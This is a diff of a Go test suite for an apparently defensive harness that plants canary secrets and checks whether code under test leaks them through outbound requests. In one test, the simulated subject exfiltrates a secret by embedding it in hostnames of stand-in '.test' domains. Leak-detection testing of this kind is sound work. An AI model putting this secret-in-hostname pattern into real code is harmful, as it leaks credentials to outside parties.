@@ -80,34 +80,26 @@ var outs = []out{
 
 var _ = Describe("A stand's doors", func() {
 	DescribeTable("find a secret that comes out", func(ctx SpecContext, o out) {
-		canaries, err := adversarial.Plant()
-		Expect(err).NotTo(HaveOccurred())
-		defer canaries.Remove()
-		stand, err := adversarial.NewStand(ctx, subject(func(ctx context.Context, p executor.Program) executor.Result {
+		stand := scripted(ctx, subject(func(ctx context.Context, p executor.Program) executor.Result {
 			if p.Outbound != nil {
 				o.bring(through(ctx, p))
 			}
 			return returns([]string{})
-		}), canaries)
-		Expect(err).NotTo(HaveOccurred())
+		}))
 		r, err := stand.Probe(ctx, stranger("return 1"))
 		Expect(err).NotTo(HaveOccurred())
 		Expect(r.Evidence.Finds).To(Equal([]adversarial.Find{{Canary: "a secret of its tools", Place: o.place, How: "as it is"}}))
 	}, suite.Entries("outs", outs, func(o out) TableEntry { return Entry(o.what, o) }))
 
 	It("write down which names are looked up", func(ctx SpecContext) {
-		canaries, err := adversarial.Plant()
-		Expect(err).NotTo(HaveOccurred())
-		defer canaries.Remove()
-		stand, err := adversarial.NewStand(ctx, subject(func(ctx context.Context, p executor.Program) executor.Result {
+		stand := scripted(ctx, subject(func(ctx context.Context, p executor.Program) executor.Result {
 			if p.Outbound != nil {
 				d, secret := through(ctx, p)
 				d.ask("GET", "http://"+secret+".wild.test/", nil, "")
 				d.ask("GET", "http://"+secret+".other.test/", nil, "")
 			}
 			return returns([]string{})
-		}), canaries)
-		Expect(err).NotTo(HaveOccurred())
+		}))
 		e := stranger("return 1")
 		e.Setting = adversarial.Direct
 		r, err := stand.Probe(ctx, e)
